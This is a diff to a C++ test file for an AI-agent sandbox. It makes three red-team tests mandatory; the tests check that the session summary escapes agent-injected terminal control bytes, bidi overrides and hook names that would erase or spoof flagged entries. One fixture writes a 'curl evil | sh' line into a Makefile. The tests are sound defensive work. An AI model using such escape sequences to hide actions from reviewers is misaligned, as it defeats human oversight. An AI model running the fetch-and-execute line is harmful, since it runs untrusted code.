@@ -292,8 +292,7 @@ bool has_control(const std::string& s) {
 // file system' >&2` moves up over the FLAGGED/WITHHELD sections ws printed just before and
 // erases them (the agent's output before the summary is its own; the summary is ws's).
 TEST_CASE("redteam sandbox: the end-of-session summary escapes paths read from the agent's "
-          "output" *
-          doctest::may_fail()) {
+          "output") {
   Person p("");
   Run r = p.ws("run --network=off -- sh -c " +
                q("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
@@ -310,8 +309,7 @@ TEST_CASE("redteam sandbox: the end-of-session summary escapes paths read from t
 // the agent's Host field: control bytes are refused there, but C1 controls (U+009B, CSI on
 // terminals that take 8-bit controls) and bidi overrides (U+202E) reach the summary raw.
 // (`ws log` escapes the same record.)
-TEST_CASE("redteam sandbox: the summary of refused requests escapes the agent's Host field" *
-          doctest::may_fail()) {
+TEST_CASE("redteam sandbox: the summary of refused requests escapes the agent's Host field") {
   Person p("");
   const std::string client =
       "import socket\n"
@@ -335,8 +333,7 @@ TEST_CASE("redteam sandbox: the summary of refused requests escapes the agent's 
 // line that names its hook and writes what it likes in its place. (File names there are
 // escaped.)
 TEST_CASE("redteam sandbox: settings keys from the agent's profile layer are escaped in the "
-          "summary and ws profile diff" *
-          doctest::may_fail()) {
+          "summary and ws profile diff") {
   Person p("");
   fs::create_directories(p.home() / ".claude");
   const std::string settings = "{\"hooks\":{\"Sess\\\\u001b[2K\\\\rionStart\":[{\"hooks\":[{"
